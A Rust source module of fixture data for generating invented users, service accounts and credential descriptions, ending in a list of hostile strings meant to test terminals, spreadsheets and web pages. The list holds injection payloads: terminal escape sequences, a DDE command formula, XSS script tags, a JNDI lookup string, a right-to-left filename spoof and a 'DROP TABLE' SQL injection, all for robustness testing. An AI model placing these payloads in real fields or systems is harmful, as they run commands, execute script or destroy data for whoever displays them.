//! Names and descriptions of the invented people, and texts that attack whoever prints them.

/// Given and family names of one region stay together, so that names look believable.
pub(crate) const REGIONS: &[(&[&str], &[&str])] = &[
    (
        &["Alice", "Grace", "Oliver", "Hannah", "Marcus", "Nora", "Ethan", "Ruth", "Declan", "Imogen"],
        &[
            "Walker",
            "Bennett",
            "Hughes",
            "O'Connor",
            "Fletcher",
            "Marsh",
            "Ashby",
            "Whitfield",
            "Kerr",
            "Lowe",
        ],
    ),
    (
        &["Jürgen", "Anneliese", "Söre", "Björn", "Käthe", "Lukas", "Mila", "Jörg", "Freya", "Åsa"],
        &[
            "Müller",
            "Weiß",
            "Schröder",
            "Lindström",
            "Ångström",
            "Bäcker",
            "Nørgaard",
            "Kaufmann",
            "Øster",
            "Vogel",
        ],
    ),
    (
        &["Chloé", "Mathéo", "Inês", "João", "Lucía", "Sofía", "Andrés", "Núria", "Élodie", "Benoît"],
        &[
            "Lefèvre",
            "Girard",
            "Fernández",
            "Muñoz",
            "Conceição",
            "Araújo",
            "Peña",
            "Castellà",
            "Noël",
            "D'Amico",
        ],
    ),
    (
        &[
            "Wojciech",
            "Agnieszka",
            "Zoltán",
            "Ilona",
            "Jiří",
            "Kateřina",
            "Dragan",
            "Željka",
            "Ștefan",
            "Ioana",
        ],
        &[
            "Wiśniewski",
            "Kowalczyk",
            "Nagy",
            "Kovács",
            "Dvořák",
            "Nováková",
            "Jovanović",
            "Țăranu",
            "Šimić",
            "Łuczak",
        ],
    ),
    (
        &["Aarav", "Diya", "Kavya", "Rohan", "Meera", "Vikram", "Anjali", "Farhan", "Sana", "Imran"],
        &["Sharma", "Iyer", "Patel", "Banerjee", "Reddy", "Khan", "Nair", "Chatterjee", "Malik", "Gupta"],
    ),
    (
        &["Haruto", "Yui", "Mei", "Wei", "Jian", "Minjun", "Seoyeon", "Linh", "Minh", "Sakura"],
        &["Tanaka", "Suzuki", "Chen", "Zhang", "Kim", "Park", "Nguyễn", "Trần", "Watanabe", "Liu"],
    ),
    (
        &["Omar", "Layla", "Yusuf", "Amina", "Tariq", "Nadia", "Kwame", "Chiamaka", "Zanele", "Tendai"],
        &[
            "Haddad", "Mansour", "El-Sayed", "Benali", "Okafor", "Mensah", "Dlamini", "Moyo", "Abebe",
            "Diallo",
        ],
    ),
    (
        &["美咲", "健太", "伟", "丽娜", "서연", "민준", "Αλέξανδρος", "Ελένη", "Дмитрий", "Ольга"],
        &["佐藤", "高橋", "王", "李", "김", "박", "Παπαδόπουλος", "Νικολάου", "Соколов", "Кузнецова"],
    ),
];

/// Names of machine users, and what they are for.
pub(crate) const SERVICES: &[(&str, &str)] = &[
    ("svc-terraform", "Applies the landing zone"),
    ("svc-backup", "Nightly object storage backup"),
    ("svc-ci-deploy", "Build pipeline"),
    ("svc-registry-pull", "Pulls images for the clusters"),
    ("svc-mailer", "Sends transactional mail"),
    ("svc-billing-export", "Copies cost reports"),
    ("svc-log-shipper", "Forwards audit logs to the SIEM"),
    ("svc-db-etl", "Loads the warehouse"),
];

/// Descriptions, by collection in the order of `Collection::CREDENTIALS`.
pub(crate) const DESCRIPTIONS: [&[&str]; 6] = [
    &[
        "ci deploy key",
        "laptop",
        "terraform",
        "cloud shell",
        "jump host",
        "ansible",
        "new laptop",
        "backup job",
    ],
    &[
        "docker login",
        "git push",
        "container registry",
        "autonomous db wallet",
        "helm charts",
        "swift client",
    ],
    &["s3 sync", "rclone", "veeam repository", "log archive", "data lake reader"],
    &["integration cloud", "partner api", "fusion data sync", "reporting connector"],
    &["mailer", "alert mails", "newsletter", "ticket system"],
    &["warehouse", "reporting", "sqlplus", "etl job"],
];

/// Texts for `userName`, `displayName` and descriptions that attack terminals, spreadsheets and pages.
pub(crate) const HOSTILE: &[&str] = &[
    "\u{1b}[2J\u{1b}[1;31mroot\u{1b}[0m",
    "\u{1b}]8;;http://evil.example\u{7}click\u{1b}]8;;\u{7}",
    "\u{1b}]0;owned\u{7}title",
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTabbed",
    "\rCarriage",
    "two\nlines",
    "quote\"inside",
    "semi;colon,comma",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "back\\slash\\",
    "rtl\u{202e}gpj.exe",
    "zero\u{200b}width\u{feff}",
    "nul\u{0}byte",
    "c1\u{9b}31mcsi",
    "family 👩‍👩‍👧‍👦 \u{1f1e9}\u{1f1ea} flag",
    "Zalgo\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}",
    "%s%n{{7*7}}${jndi:ldap://x}",
    "line\u{2028}separator",
    "'; DROP TABLE users; --",
];
